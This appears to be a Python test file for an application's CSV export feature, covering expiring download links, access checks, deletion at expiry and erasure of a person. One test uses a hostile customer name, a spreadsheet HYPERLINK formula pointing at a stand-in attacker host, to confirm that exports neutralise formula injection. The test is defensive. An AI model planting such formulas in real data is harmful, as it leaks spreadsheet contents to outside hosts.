"""Exports: the customer and subscriber lists as CSV files behind expiring links, safe to open
in a spreadsheet, deleted when they expire."""

from __future__ import annotations

import asyncio
import csv
import io
import uuid
from typing import Any

import httpx
import pytest
from sqlalchemy import func, select

from activities.dataops import DataActivities
from herald.access.models import Role
from herald.customers.schemas import CustomerCreate, EmailIn
from herald.customers.service import create_customer
from herald.database import Database
from herald.dataops import exports
from herald.dataops.contracts import ExportEnd, ExportRunInput
from herald.dataops.models import DataExport, ExportChunk, ExportKind, ExportStatus
from herald.dataops.schemas import ExportIn
from herald.privacy.service import erase_person
from simulator import time_skipping_worker
from tests.support import Org, Stack, wait_until
from workflows.dataops import ExportRun

# SQL here differs between SQLite and PostgreSQL: run on both.
pytestmark = pytest.mark.dialects


def export(stack: Stack, org: Org, body: dict[str, Any], role: Role = Role.owner) -> Any:
    started = stack.api.post("/v1/exports", json=body, headers=org.headers(role))
    assert started.status_code == 202, started.text
    export_id = started.json()["id"]
    return wait_until(
        lambda: (
            (e := stack.api.get(f"/v1/exports/{export_id}", headers=org.headers()).json())
            and e["status"] == "ready"
            and e
        ),
        timeout_s=60,
    )


def opened(stack: Stack, url: str) -> httpx.Response:
    """The link, opened without a key (on this test's API: the links name the public URL)."""
    return stack.api.get(httpx.URL(url).raw_path.decode())


def download(stack: Stack, url: str) -> list[list[str]]:
    response = opened(stack, url)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.text)))


def test_a_filtered_customer_export_opens_in_a_spreadsheet_without_running_a_formula(
    stack: Stack, org: Org, other_org: Org
) -> None:
    h = org.headers()
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    made = []
    for n, (name, tags) in enumerate(
        [(hostile, ["vip"]), ("+Plain Person", ["vip"]), ("Not Tagged", [])]
    ):
        body = {"name": name, "emails": [f"e{n}-{uuid.uuid4().hex[:6]}@example.com"], "tags": tags}
        response = stack.api.post("/v1/customers", json=body, headers=h)
        assert response.status_code == 201
        made.append(response.json())
    stack.api.put(f"/v1/customers/{made[0]['id']}/consent", json={"email": "granted"}, headers=h)

    ready = export(stack, org, {"kind": "customers", "filter": {"tag": "vip"}}, Role.marketing)
    assert ready["rows"] == 2
    rows = download(stack, ready["download_url"])
    header, body_rows = rows[0], rows[1:]
    assert header[:4] == ["id", "external_id", "name", "email"]
    by_id = {r[0]: dict(zip(header, r, strict=True)) for r in body_rows}
    assert set(by_id) == {made[0]["id"], made[1]["id"]}
    first = by_id[made[0]["id"]]
    # The formula is text: a leading apostrophe keeps the spreadsheet from evaluating it.
    assert first["name"] == "'" + hostile
    assert by_id[made[1]["id"]]["name"] == "'+Plain Person"
    assert first["tags"] == "vip" and first["email_consent"] == "granted"
    assert first["points"] == "0" and first["lifetime_value"] == "0.00"

    # A link with another token, or another brand asking, opens nothing.
    forged = ready["download_url"].split("token=")[0] + "token=AAAAAAAAAAAAAAAAAAAAAA.BBBBBBBBBBBB"
    assert opened(stack, forged).status_code == 404
    theirs = stack.api.get(f"/v1/exports/{ready['id']}", headers=other_org.headers())
    assert theirs.status_code == 404
    # Cashiers and sales do not export; a body that mixes kinds is refused.
    denied = stack.api.post(
        "/v1/exports", json={"kind": "customers"}, headers=org.headers(Role.cashier)
    )
    assert denied.status_code == 403
    mixed = stack.api.post("/v1/exports", json={"kind": "customers", "topic": "news"}, headers=h)
    assert mixed.status_code == 422
    missing = stack.api.post(
        "/v1/exports", json={"kind": "customers", "filter": {"segment": "nope"}}, headers=h
    )
    assert missing.status_code == 404
    # Already finished: nothing to cancel.
    assert stack.api.post(f"/v1/exports/{ready['id']}/cancel", headers=h).status_code == 409


def test_the_subscriber_list_exports_by_status(stack: Stack, org: Org) -> None:
    h = org.headers()
    for email in ("sub1@example.com", "sub2@example.com"):
        added = stack.api.post(
            "/v1/newsletter/subscribers", json={"email": email, "topics": ["news"]}, headers=h
        )
        assert added.status_code in (200, 201), added.text
    ready = export(stack, org, {"kind": "subscribers", "topic": "news"})
    rows = download(stack, ready["download_url"])
    assert rows[0][:3] == ["id", "email", "status"]
    assert sorted(r[1] for r in rows[1:]) == ["sub1@example.com", "sub2@example.com"]


async def test_an_export_is_deleted_when_its_lifetime_ends(db: Database, org: Org) -> None:
    with db.session(org.id) as session:
        for n in range(3):
            create_customer(session, CustomerCreate(name=f"Person {n}"))
        start = exports.create(
            session, ExportIn(kind=ExportKind.customers), actor="test", keep_seconds=86_400
        )
    run = start.arg
    assert isinstance(run, ExportRunInput)
    async with time_skipping_worker(
        "export-expiry", [ExportRun], DataActivities(db).all_activities()
    ) as env:
        handle = await env.client.start_workflow(
            ExportRun.run, run, id=start.workflow_id, task_queue="export-expiry"
        )

        def status() -> ExportStatus:
            with db.session(org.id) as session:
                return session.get(DataExport, run.export_id).status  # type: ignore[union-attr]

        for _ in range(100):
            if status() is ExportStatus.ready:
                break
            await asyncio.sleep(0.1)
        with db.session(org.id) as session:
            text = "".join(exports.file_chunks(session, run.export_id))
        assert len(text.strip().splitlines()) == 4  # the header and three customers
        # Awaiting the result lets the server skip the day the file is kept.
        assert await handle.result() == 3
    with db.session(org.id) as session:
        assert session.get(DataExport, run.export_id).status is ExportStatus.expired  # type: ignore[union-attr]
        assert session.scalar(select(func.count()).select_from(ExportChunk)) == 0


def test_an_export_being_written_when_a_person_in_it_is_erased_is_withdrawn(
    db: Database, org: Org
) -> None:
    with db.session(org.id) as session:
        person = create_customer(
            session, CustomerCreate(name="Tam", emails=[EmailIn(address="tam@example.com")])
        )
        create_customer(session, CustomerCreate(name="Other"))
        start = exports.create(
            session, ExportIn(kind=ExportKind.customers), actor="test", keep_seconds=60
        )
    run = start.arg
    assert isinstance(run, ExportRunInput)
    with db.session(org.id) as session:
        assert exports.write_chunk(session, run).rows == 2  # the run is still writing
    with db.session(org.id) as session:
        erase_person(session, person.id, actor="test")
    with db.session(org.id) as session:
        # The run's next chunk finds the export withdrawn, and its end keeps it so.
        later = run.model_copy(update={"seq": 1, "after": str(uuid.uuid4())})
        assert exports.write_chunk(session, later).after is None
        exports.end(session, ExportEnd(organization_id=org.id, export_id=run.export_id))
        export = session.get(DataExport, run.export_id)
        assert export is not None and export.status is ExportStatus.expired
        assert "tam@example.com" not in "".join(exports.file_chunks(session, run.export_id))
